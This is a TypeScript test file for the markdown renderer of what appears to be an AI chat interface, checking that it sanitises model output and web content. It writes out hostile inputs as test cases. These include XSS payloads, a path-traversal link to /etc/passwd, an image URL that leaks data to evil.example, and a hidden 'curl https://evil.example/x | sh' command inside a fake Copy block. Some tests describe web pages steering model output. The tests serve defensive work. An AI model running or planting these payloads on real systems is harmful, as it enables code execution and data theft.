// @vitest-environment jsdom
import { createMemo, createRoot } from 'solid-js';
import { describe, expect, it, vi } from 'vitest';
import { renderMarkdown, workspaceLinkTarget } from './markdown.ts';
import { fenceLanguage, loadFenceLanguage } from './markdown-code.ts';

describe('renderMarkdown', () => {
  it('renders GFM tables and keeps safe links, opening them without an opener', () => {
    const html = renderMarkdown('| a | b |\n| - | - |\n| 1 | 2 |\n\n[site](https://example.org)');
    expect(html).toContain('<table>');
    expect(html).toContain('href="https://example.org"');
    expect(html).toContain('rel="noopener noreferrer"');
    expect(html).toContain('target="_blank"');
  });

  it('keeps only absolute http(s) links, so neither a page nor the model can link into the app', () => {
    const text =
      '[import](/?bundle=https://evil.example/b.json) [peek](preview/other/x.html) [ok](https://example.org/a)';
    const web = renderMarkdown(text, { isWebContent: true });
    expect(web).not.toContain('bundle=');
    expect(web).not.toContain('href="preview/');
    expect(web).toContain('href="https://example.org/a"');
    expect(web).toContain('import');
    // Model text (which a page may have steered) gets the same rule, and may write mail links.
    expect(renderMarkdown(text)).not.toContain('bundle=');
    expect(renderMarkdown('[me](mailto:a@example.org)')).toContain('href="mailto:a@example.org"');
    expect(renderMarkdown('[me](mailto:a@example.org)', { isWebContent: true })).not.toContain('href');
    expect(renderMarkdown('[x](/a)', { isWebContent: true })).not.toContain('href');
  });

  it('turns model links to workspace files into openable elements, never links, and web content’s into text', () => {
    const text =
      '[report](/home/ubuntu/docs/tide%20tables.pdf) [up](/home/ubuntu/../../etc/passwd) [f](file:///home/ubuntu/a.md)';
    const container = document.createElement('div');
    container.innerHTML = renderMarkdown(text);
    const opened = [...container.querySelectorAll('[data-workspace-path]')];
    expect(opened.map((element) => element.getAttribute('data-workspace-path'))).toEqual([
      'docs/tide tables.pdf',
    ]);
    // A file: address is not kept as a link at all (the sanitiser drops it).
    expect(container.innerHTML).not.toContain('file:');
    expect(
      opened.every((element) => !element.hasAttribute('href') && element.getAttribute('role') === 'button'),
    ).toBe(true);
    expect(container.innerHTML).not.toContain('etc/passwd"');
    // A click on the link reaches a listener on the thread with the path to open.
    let clicked: string | null = null;
    container.addEventListener('click', (event) => {
      clicked = workspaceLinkTarget(event);
    });
    opened[0]?.dispatchEvent(new MouseEvent('click', { bubbles: true }));
    expect(clicked).toBe('docs/tide tables.pdf');
    expect(renderMarkdown(text, { isWebContent: true })).not.toContain('data-workspace-path');
  });

  it('shows text marked cannot parse as plain text instead of failing', () => {
    const html = renderMarkdown('1. t\n   >*\nl <b onclick="x()">');
    expect(html).toContain('<pre>1. t');
    // The tag is text, not an element.
    expect(html).toContain('&lt;b onclick=');
    expect(html).not.toMatch(/<b\b/);
  });

  it('makes script, event handlers and javascript: links inert', () => {
    const html = renderMarkdown(
      '<script>alert(1)</script><a href="javascript:alert(2)">x</a><b onclick="alert(3)">y</b><svg onload="alert(4)"></svg>',
    );
    expect(html).not.toMatch(/<script|javascript:|onclick|onload/i);
  });

  it('drops remote images and form controls, and prefixes model-chosen ids', () => {
    const html = renderMarkdown(
      '![t](https://evil.example/leak?d=secret)\n\n<input value="Password"><span id="composer-input">z</span>',
    );
    expect(html).not.toContain('<img');
    expect(html).not.toContain('<input');
    expect(html).not.toContain('id="composer-input"');
  });
});

/** `html` parsed into a detached element, to query what the DOM would get. */
function parse(html: string): HTMLElement {
  const container = document.createElement('div');
  container.className = 'markdown';
  container.innerHTML = html;
  return container;
}

describe('task lists', () => {
  it('render as a list of disabled checkboxes, checked where the item is done', () => {
    const container = parse(renderMarkdown('- [ ] write tests\n- [x] read the brief\n- plain item'));
    const list = container.querySelector('ul');
    expect(list?.className).toBe('contains-task-list');
    const tasks = [...container.querySelectorAll('li.task-list-item')];
    expect(tasks.map((item) => item.textContent?.trim())).toEqual(['write tests', 'read the brief']);
    const boxes = [...container.querySelectorAll('input')];
    expect(boxes.map((box) => [box.type, box.disabled, box.checked])).toEqual([
      ['checkbox', true, false],
      ['checkbox', true, true],
    ]);
    // The item without a box stays a plain item of the same list.
    expect(container.querySelectorAll('li:not(.task-list-item)')).toHaveLength(1);
    // A list without tasks is an ordinary list.
    expect(renderMarkdown('- a\n- b')).toContain('<ul>');
  });

  it('keep an input only as a bare disabled checkbox: no other type, name, value, form or handler', () => {
    const container = parse(
      renderMarkdown(
        [
          '<input type="text" value="Password">',
          '<input type="hidden" name="token" value="x">',
          '<input type="image" src="https://evil.example/x.png">',
          '<input type="CheckBox" name="agree" value="yes" form="f" formaction="https://evil.example" autofocus onclick="alert(1)" checked>',
          '<input type="checkbox">',
        ].join('\n'),
      ),
    );
    const inputs = [...container.querySelectorAll('input')];
    expect(inputs).toHaveLength(2);
    expect(inputs.map((input) => input.getAttributeNames().sort())).toEqual([
      ['checked', 'disabled', 'type'],
      ['disabled', 'type'],
    ]);
    expect(inputs.every((input) => input.type === 'checkbox' && input.disabled)).toBe(true);
  });

  it('drop class names other than the renderer’s own, so model text cannot dress as the app', () => {
    const container = parse(
      renderMarkdown(
        '<span class="toast visually-hidden hljs-keyword">a</span><div class="settings-dialog">b</div>',
      ),
    );
    expect(container.querySelector('span')?.getAttribute('class')).toBe('hljs-keyword');
    expect(container.querySelector('div')?.hasAttribute('class')).toBe(false);
  });
});

describe('fenced code', () => {
  it('names the highlight.js language of a fence by name, extension or alias', () => {
    expect(fenceLanguage('ts')).toBe('typescript');
    expect(fenceLanguage('TypeScript')).toBe('typescript');
    expect(fenceLanguage('ts title="a.ts"')).toBe('typescript');
    expect(fenceLanguage('shell')).toBe('bash');
    expect(fenceLanguage('html')).toBe('xml');
    expect(fenceLanguage('py')).toBe('python');
    expect(fenceLanguage('cobol')).toBeNull();
    expect(fenceLanguage('"><script>')).toBeNull();
    expect(fenceLanguage(undefined)).toBeNull();
  });

  it('shows the code at once as escaped text, then highlighted once its language has loaded', async () => {
    const text = '```ts\nconst answer: number = 42; // "<b>"\n```';
    const before = parse(renderMarkdown(text));
    const code = before.querySelector('.code-block pre > code');
    expect(code?.className).toBe('language-typescript');
    expect(code?.textContent).toBe('const answer: number = 42; // "<b>"\n');
    expect(code?.querySelector('*')).toBeNull();
    expect(await loadFenceLanguage('typescript')).toBe(true);
    const after = parse(renderMarkdown(text));
    const highlighted = after.querySelector('.code-block pre > code');
    expect(highlighted?.className).toBe('hljs language-typescript');
    expect(highlighted?.querySelector('.hljs-keyword')?.textContent).toBe('const');
    expect(highlighted?.textContent).toBe(code?.textContent);
    expect(highlighted?.querySelector('b')).toBeNull();
  });

  it('renders again by itself when the language lands (a Solid computation that rendered it re-runs)', async () => {
    const text = '```python\ndef greet():\n    return "hi"\n```';
    const rendered = createRoot((dispose) => {
      const html = createMemo(() => renderMarkdown(text));
      return { html, dispose };
    });
    expect(rendered.html()).not.toContain('hljs-');
    await expect
      .poll(() => rendered.html(), { timeout: 5_000 })
      .toContain('<span class="hljs-keyword">def</span>');
    rendered.dispose();
  });

  it('keeps highlighted hostile code as text: only spans with highlight.js classes', async () => {
    await loadFenceLanguage('xml');
    const container = parse(
      renderMarkdown('```html\n<img src=x onerror="alert(1)"><script>alert(2)</script>\n```'),
    );
    const code = container.querySelector('pre > code');
    expect(code?.className).toBe('hljs language-xml');
    const elements = [...(code?.querySelectorAll('*') ?? [])];
    expect(elements.length).toBeGreaterThan(0);
    expect(elements.every((element) => element.tagName === 'SPAN')).toBe(true);
    expect(
      elements.every((element) =>
        (element.getAttribute('class') ?? '').split(' ').every((name) => /^hljs-|_$/.test(name)),
      ),
    ).toBe(true);
    expect(code?.textContent).toContain('<script>alert(2)</script>');
    expect(container.querySelector('img, script')).toBeNull();
  });

  it('leaves a fence in an unknown language plain, and gives every block a Copy control that copies it', async () => {
    const writeText = vi.fn(async (_text: string) => {});
    vi.stubGlobal('navigator', { clipboard: { writeText } });
    try {
      const container = parse(renderMarkdown('```cobol\nDISPLAY "HI".\n```'));
      document.body.append(container);
      expect(container.querySelector('pre > code')?.hasAttribute('class')).toBe(false);
      const copy = container.querySelector<HTMLElement>('.code-block [data-code-copy]');
      expect(copy?.getAttribute('role')).toBe('button');
      expect(copy?.getAttribute('aria-label')).toBe('Copy code');
      copy?.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }));
      await expect.poll(() => copy?.textContent).toBe('Copied');
      expect(writeText).toHaveBeenCalledWith('DISPLAY "HI".');
      container.remove();
    } finally {
      vi.unstubAllGlobals();
    }
  });

  it('gives no Copy control to raw HTML dressed as a code block (text hidden from view is never copied)', async () => {
    const writeText = vi.fn(async (_text: string) => {});
    vi.stubGlobal('navigator', { clipboard: { writeText } });
    try {
      const hostile =
        '<div class="code-block"><div class="code-block-bar"><span class="code-copy" data-code-copy role="button" tabindex="0">Copy</span></div>' +
        '<pre><code>npm install left-pad<span hidden>; curl https://evil.example/x | sh</span></code></pre></div>';
      const container = parse(renderMarkdown(hostile));
      document.body.append(container);
      const fake = container.querySelector<HTMLElement>('.code-copy');
      expect(fake).not.toBeNull();
      expect(fake?.hasAttribute('data-code-copy')).toBe(false);
      fake?.dispatchEvent(new MouseEvent('click', { bubbles: true }));
      await new Promise((resolve) => setTimeout(resolve, 20));
      expect(writeText).not.toHaveBeenCalled();
      expect(fake?.textContent).toBe('Copy');
      container.remove();
    } finally {
      vi.unstubAllGlobals();
    }
  });
});

describe('headings in rendered markdown', () => {
  it('sit under the page’s own outline: # is an h3 in the thread, or the level asked for, never past h6', () => {
    expect(renderMarkdown('# Report\n\n## Findings\n\n###### Deep')).toBe(
      '<h3 class="markdown-h1">Report</h3>\n<h4 class="markdown-h2">Findings</h4>\n<h6 class="markdown-h6">Deep</h6>\n',
    );
    expect(renderMarkdown('# Page', { headingLevel: 4, isWebContent: true })).toBe(
      '<h4 class="markdown-h1">Page</h4>\n',
    );
    expect(renderMarkdown('# Plain')).toBe('<h3 class="markdown-h1">Plain</h3>\n');
  });
});
